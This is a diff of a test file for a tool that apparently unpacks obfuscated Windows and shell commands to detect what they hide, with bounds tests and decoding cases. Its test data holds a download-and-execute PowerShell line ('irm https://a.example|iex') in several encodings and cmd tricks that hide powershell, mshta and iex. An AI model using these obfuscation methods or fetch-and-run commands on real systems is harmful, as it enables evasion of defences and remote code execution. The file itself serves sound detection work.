@@ -24,10 +24,14 @@ const hostile: Record<string, string> = {
   'replacements that grow': `${`.replace('a','${'a'.repeat(40)}')`.repeat(8)}${fill('a')}`.slice(0, longest),
   'character codes': fill('105,'),
   'text written backwards': `reverse ${fill('xei ')}`.slice(0, longest),
-  'ligatures that become many characters': fill('\ufdfa'),
+  'capitals that become two characters': fill('\u0130'),
+  'line breaks': fill('\n'),
   'dots alone': fill('a.'),
   'shared folders': fill('\\\\a@'),
   addresses: fill('http://a@ '),
+  'different addresses': Array.from({ length: 1_500 }, (_, i) => `http://a${i}.example \\\\b${i}.example\\c `)
+    .join('')
+    .slice(0, longest),
   'variables of a shell': `a=${'y'.repeat(1_900)};${fill('$a')}`.slice(0, longest),
 };
 
@@ -37,8 +41,8 @@ describe('the work for one command is bounded', () => {
       const layers = layersOf(hostile[name] ?? '', os);
       expect(layers.reduce((sum, layer) => sum + layer.length, 0)).toBeLessThanOrEqual(maxTotal);
       expect(layers.filter(({ length }) => length > maxLength)).toEqual([]);
-      // A character becomes at most 18 by normalization, and two spaces around signs.
-      for (const layer of layers) expect(normalizeCommand(layer, os).length).toBeLessThanOrEqual(layer.length * 18);
+      // A sign gets a space on both sides, and a line break becomes a sign. Lower case can have one character more.
+      for (const layer of layers) expect(normalizeCommand(layer, os).length).toBeLessThanOrEqual(layer.length * 3);
     }
   });
 
@@ -77,6 +81,16 @@ describe('the work for one command is bounded', () => {
     );
   });
 
+  test('when every layer grows, what exceeds the limit is left out', () => {
+    const growing = (inner: string) => `${encode(inner)} set a=${'y'.repeat(1_900)}&${'%a%'.repeat(40)}`;
+    const layers = layersOf(growing(growing(growing(growing('irm')))), 'windows');
+    expect(layers.reduce((sum, layer) => sum + layer.length, 0)).toBe(maxTotal);
+  });
+
+  test('a command that hides nothing has one layer', () => {
+    expect(layersOf('powershell Get-Date', 'windows')).toEqual(['powershell Get-Date']);
+  });
+
   test('of a longer command the beginning and the end are read', () => {
     const layers = layersOf(`first ${'x'.repeat(200_000)} last`, 'linux');
     expect(layers[0]).toHaveLength(maxLength);
@@ -87,6 +101,8 @@ describe('the work for one command is bounded', () => {
 describe('what commands hide', () => {
   test.each([
     ['set and call', 'set a=po&&set b=wer&& call %a%%b%shell', 'powershell'],
+    ['variables within variables', 'set a=%b%&set b=iex&call %a%', 'call iex'],
+    ['slices without a character', 'm%tmp:~0,0%shta', 'mshta'],
     ['slices of variables', '%comspec:~-7,3% %SystemRoot:~0,1%', 'cmd C'],
     ['replacement in a variable', 'set m=mXshta&%m:X=%', 'mshta'],
     ['delayed variables', 'set x=iex&!x!', 'iex'],
@@ -115,7 +131,7 @@ describe('what commands hide', () => {
   test.each([
     ['base64 of UTF-16', Buffer.from('irm https://a.example|iex', 'utf16le').toString('base64')],
     ['base64 of UTF-8', encode('irm https://a.example|iex')],
-    ['base64 for addresses', encode('irm https://a.example|iex').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')],
+    ['base64 for addresses', encode('irm https://a.example|iex ~~~???>>>').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')],
     ['base64 twice', encode(encode('irm https://a.example|iex'))],
     ['hexadecimal', Buffer.from('irm https://a.example|iex').toString('hex')],
     [
